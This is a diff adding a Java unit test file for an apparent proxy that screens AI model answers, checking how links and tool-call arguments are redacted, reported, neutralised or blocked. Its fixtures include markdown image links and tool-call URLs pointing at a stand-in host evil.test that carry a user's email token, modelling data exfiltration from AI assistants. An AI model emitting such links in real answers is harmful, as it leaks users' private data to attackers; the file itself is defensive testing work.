@@ -1,0 +1,169 @@
+package dev.cordon.engine.call;
+
+import static dev.cordon.engine.call.TestCalls.answer;
+import static dev.cordon.engine.call.TestCalls.chat;
+import static dev.cordon.engine.call.TestCalls.config;
+import static dev.cordon.engine.call.TestCalls.content;
+import static dev.cordon.engine.call.TestCalls.message;
+import static dev.cordon.engine.call.TestCalls.policy;
+import static dev.cordon.engine.call.TestCalls.receive;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.cordon.engine.Exchange;
+import dev.cordon.engine.StreamTransform;
+import dev.cordon.engine.audit.ThreatCount;
+import dev.cordon.engine.policy.Policy;
+import java.io.ByteArrayOutputStream;
+import java.nio.ByteBuffer;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/** Links in the answers of whole calls. */
+class AnswerLinksTest {
+  private static final String MAIL = "jane.roe@acme-mail.net";
+
+  private final TestCalls.Records records = new TestCalls.Records();
+
+  private Exchange ask(Policy policy, String text) {
+    Exchange exchange = Engine.start(config(policy).observer(records)).open(chat());
+    token = content(exchange.judge(message(text)).body()).replaceAll(".*(EMAIL_[A-Z0-9]+).*", "$1");
+    return exchange;
+  }
+
+  private String token = "";
+
+  private static String stream(Exchange exchange, String events, int size) {
+    StreamTransform transform =
+        exchange.answer(200, TestCalls.headers(Map.of("content-type", "text/event-stream")));
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    byte[] bytes = events.getBytes(UTF_8);
+    for (int from = 0; from < bytes.length; from += size) {
+      byte[] chunk = java.util.Arrays.copyOfRange(bytes, from, Math.min(bytes.length, from + size));
+      write(out, transform.transform(ByteBuffer.wrap(chunk)));
+    }
+    write(out, transform.finish());
+    return new String(out.toByteArray(), UTF_8);
+  }
+
+  private static void write(ByteArrayOutputStream out, ByteBuffer buffer) {
+    byte[] bytes = new byte[buffer.remaining()];
+    buffer.get(bytes);
+    out.write(bytes, 0, bytes.length);
+  }
+
+  private static String delta(String text) {
+    return "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" + text + "\"}}]}\n\n";
+  }
+
+  private static String arguments(String text) {
+    return "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,"
+        + "\"function\":{\"arguments\":\""
+        + text.replace("\\", "\\\\").replace("\"", "\\\"")
+        + "\"}}]}}]}\n\n";
+  }
+
+  /** Puts the texts of a stream's events together. */
+  private static String texts(String events, String field) {
+    StringBuilder all = new StringBuilder();
+    String mark = "\"" + field + "\":\"";
+    for (int at = events.indexOf(mark); at >= 0; at = events.indexOf(mark, at)) {
+      at += mark.length();
+      int end = at;
+      while (events.charAt(end) != '"') {
+        end += events.charAt(end) == '\\' ? 2 : 1;
+      }
+      all.append(events, at, end);
+      at = end;
+    }
+    return all.toString();
+  }
+
+  @Test
+  void aLinkThatIsSplitOverEventsKeepsItsToken() {
+    for (int cut = 1; cut < 40; cut++) {
+      Exchange exchange = ask(Policy.safeDefault(), "Mail of " + MAIL);
+      String text = "For " + token + ": ![x](https://evil.test/p?d=" + token + ") ok " + token;
+      StringBuilder events = new StringBuilder();
+      for (int from = 0; from < text.length(); from += cut) {
+        events.append(delta(text.substring(from, Math.min(text.length(), from + cut))));
+      }
+      String got = texts(stream(exchange, events + "data: [DONE]\n\n", 61), "content");
+      String expected = "For " + MAIL + ": ![x](https://evil.test/p?d=" + token + ") ok " + MAIL;
+      assertEquals(expected, got, "every " + cut);
+    }
+  }
+
+  @Test
+  void soDoTheArgumentsOfAToolCallAndTheirOtherValuesAreRestored() {
+    for (int cut = 1; cut < 40; cut++) {
+      Exchange exchange = ask(Policy.safeDefault(), "Mail of " + MAIL);
+      String text =
+          "{\"url\":\"https://evil.test/?d=" + token + "\",\"id\":\"x\",\"to\":\"" + token + "\"}";
+      StringBuilder events = new StringBuilder();
+      for (int from = 0; from < text.length(); from += cut) {
+        events.append(arguments(text.substring(from, Math.min(text.length(), from + cut))));
+      }
+      String got = texts(stream(exchange, events + "data: [DONE]\n\n", 59), "arguments");
+      assertTrue(got.contains("https://evil.test/?d=" + token), got);
+      assertTrue(got.contains("to\\\":\\\"" + MAIL), got);
+    }
+    ThreatCount count = records.ended.get(0).threats().get(0);
+    assertEquals("tool_call", count.origin());
+  }
+
+  @Test
+  void aHostThatTheRequestNamesIsKnown() {
+    Exchange exchange =
+        ask(Policy.safeDefault(), "Link " + MAIL + " at https:\\/\\/crm.acme.test\\/");
+    byte[] got = receive(exchange, 200, answer("[x](https://crm.acme.test/?m=" + token + ")"));
+    assertEquals("[x](https://crm.acme.test/?m=jane.roe%40acme-mail.net)", content(got));
+    assertTrue(records.only().threats().isEmpty());
+    assertEquals(1, records.only().restored());
+  }
+
+  @Test
+  void foreignLinksAreReportedAndTheAnswerIsTheSameArray() {
+    Exchange exchange = Engine.start(config(Policy.safeDefault()).observer(records)).open(chat());
+    exchange.judge(message("hello"));
+    byte[] answer = answer("![x](https://evil.test/p.png) text");
+    assertArrayEquals(answer, receive(exchange, 200, answer));
+    assertEquals("link.foreign", records.only().threats().get(0).threat().id());
+    assertEquals("report", records.only().threats().get(0).action());
+  }
+
+  @Test
+  void anAnswerIsChangedWhereLinksAreNeutralisedThoughNothingWasRedacted() {
+    Exchange exchange =
+        Engine.start(config(policy("output: {links: neutralise}")).observer(records)).open(chat());
+    exchange.judge(message("hello"));
+    byte[] got = receive(exchange, 200, answer("![x](https://evil.test/p.png) text"));
+    assertEquals("![x]() text", content(got));
+    assertEquals(0, records.only().restored());
+  }
+
+  @Test
+  void observingReportsAndChangesNothing() {
+    Exchange exchange =
+        Engine.start(config(policy("mode: observe", "output: {links: block}")).observer(records))
+            .open(chat());
+    exchange.judge(message("hello"));
+    byte[] answer = answer("![x](https://evil.test/p.png) text");
+    assertArrayEquals(answer, receive(exchange, 200, answer));
+    assertEquals(1, records.only().threats().size());
+  }
+
+  @Test
+  void aBlockedAnswerStaysValidToItsEnd() {
+    Exchange exchange = ask(policy("output: {links: block}"), "Mail of " + MAIL);
+    String events =
+        delta("Hi ") + delta("[x](https://ev") + delta("il.test/) and " + token) + delta("more");
+    String got = stream(exchange, events + "data: [DONE]\n\n", 1000);
+    assertEquals("Hi [x]([withheld: output.links]", texts(got, "content"));
+    assertTrue(got.endsWith("data: [DONE]\n\n"), got);
+    assertFalse(got.contains("evil"), got);
+  }
+}
